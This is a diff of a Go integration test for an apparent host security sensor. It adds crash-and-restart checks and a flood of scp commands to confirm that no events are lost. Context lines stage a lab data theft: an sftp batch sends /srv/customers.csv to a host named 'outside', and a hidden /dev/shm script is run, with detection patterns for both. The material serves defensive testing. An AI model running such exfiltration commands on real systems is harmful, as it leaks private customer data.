@@ -30,11 +30,12 @@ type fleet struct {
 	lab     *labs.Lab
 	there   bool // sensors are in their host's network: they know its addresses, and reach only what that does
 	node    *elasticsearch.Node
+	sensors map[string]*exec.Cmd // by host
 }
 
 func newFleet(t *testing.T) *fleet {
 	t.Helper()
-	f := &fleet{t: t, program: executable(t)}
+	f := &fleet{t: t, program: executable(t), sensors: map[string]*exec.Cmd{}}
 	kernelWorks(t, f.program)
 	f.node, f.lab = elasticsearch.Start(t), labs.Start(t, labs.Options{Hosts: 3, Light: true})
 	f.ship(f.node.URL)
@@ -95,12 +96,51 @@ func (f *fleet) sense(h *labs.Host) {
 	if err := cmd.Start(); err != nil {
 		f.t.Fatal(err)
 	}
+	f.sensors[h.Name()] = cmd
 	f.t.Cleanup(func() {
+		if f.sensors[h.Name()] != cmd {
+			return // it was killed
+		}
 		cmd.Process.Signal(syscall.SIGINT)
 		if err := cmd.Wait(); err != nil || said.Len() > 0 {
 			f.t.Errorf("the sensor of %s: %v\n%s", h.Name(), err, said.String())
 		}
 	})
+}
+
+// kill ends the sensor of a host as a crash does, once it has had a second for
+// what happened before, and starts another, which is at work when kill returns.
+func (f *fleet) kill(h *labs.Host) {
+	f.t.Helper()
+	const within = 90 * time.Second
+	since := time.Now()
+	soon(f.t, "another word of the sensor of "+h.Name(), within, func() bool {
+		var said struct{ At time.Time }
+		b, err := os.ReadFile(filepath.Join(f.spool(h), "status.json"))
+		return err == nil && json.Unmarshal(b, &said) == nil && said.At.Sub(since) > time.Second
+	})
+	cmd := f.sensors[h.Name()]
+	if err := cmd.Process.Kill(); err != nil {
+		f.t.Fatal(err)
+	}
+	cmd.Wait()
+	kept := f.spooled(h)
+	f.sense(h)
+	soon(f.t, "the next sensor of "+h.Name(), within, func() bool {
+		h.Command("scp", "warm-up").Run()
+		return f.spooled(h) > kept
+	})
+}
+
+// spooled is how many bytes wait on the disk of a host's sensor.
+func (f *fleet) spooled(h *labs.Host) (size int64) {
+	segments, _ := filepath.Glob(filepath.Join(f.spool(h), "*.spool"))
+	for _, s := range segments {
+		if info, err := os.Stat(s); err == nil {
+			size += info.Size()
+		}
+	}
+	return size
 }
 
 // ask puts a question to the cluster, after it was told to let all be found.
@@ -168,7 +208,7 @@ echo "put /srv/customers.csv /srv/" | sftp -q -b - outside
 :
 X
 chmod +x /dev/shm/.x.sh; /dev/shm/.x.sh`)
-	t.Log(console.wait("the theft", `db-3`, `scp ◂ \.x\.sh`, `203\.0\.113\.10`, `customers\.(tar\.gz|csv)`, `3\.0 M|2\.9 M`))
+	t.Log(console.wait("the theft", `db-3`, `scp ◂ \.x\.sh`, `203\.0\.113\.10`, `customers\.(tar\.gz|csv)`, `3\.0 M|2\.9 M`, `Tree .*\.x\.sh \d+ .*─ s(cp|ftp) \d+ ─ ssh \d+`))
 
 	work := func(round string) {
 		var all sync.WaitGroup
@@ -187,6 +227,11 @@ chmod +x /dev/shm/.x.sh; /dev/shm/.x.sh`)
 	}
 	work("without")
 	console.wait("that it cannot look", `CANNOT LOOK`)
+	const flood = 500
+	storm := fmt.Sprintf(`i=0; while [ $i -lt %d ]; do scp storm 2>/dev/null || :; i=$((i+1)); done`, flood)
+	on(t, f.lab.Host("ci-17"), storm)
+	f.kill(f.lab.Host("ci-17"))
+	on(t, f.lab.Host("ci-17"), storm)
 	if err := f.node.Again(); err != nil {
 		t.Fatal(err)
 	}
@@ -200,6 +245,10 @@ chmod +x /dev/shm/.x.sh; /dev/shm/.x.sh`)
 		}
 		return len(f.ask(fmt.Sprintf(`FROM %s | WHERE process.command_line LIKE "scp -q /srv/x outside:/srv/*" AND event.action == "exec"`, process))) >= 30
 	})
+	stormed := fmt.Sprint(f.ask(fmt.Sprintf(`FROM %s | WHERE process.command_line == "scp storm" AND host.name == "ci-17" AND event.action == "exec" | STATS n = COUNT(*) BY process.entity_id | STATS n = SUM(n), different = COUNT(*)`, process)))
+	if want := fmt.Sprintf("[[%d %d]]", 2*flood, 2*flood); stormed != want {
+		t.Errorf("executions, and different ones, around a sensor that was killed while the cluster was gone: %s, want %s", stormed, want)
+	}
 	console.waitFor("that it can look again", func(screen string) bool { return !strings.Contains(screen, "CANNOT LOOK") })
 	console.waitFor("that everything ended", func(screen string) bool {
 		return !strings.Contains(screen, " running") && !strings.Contains(screen, "still runs")
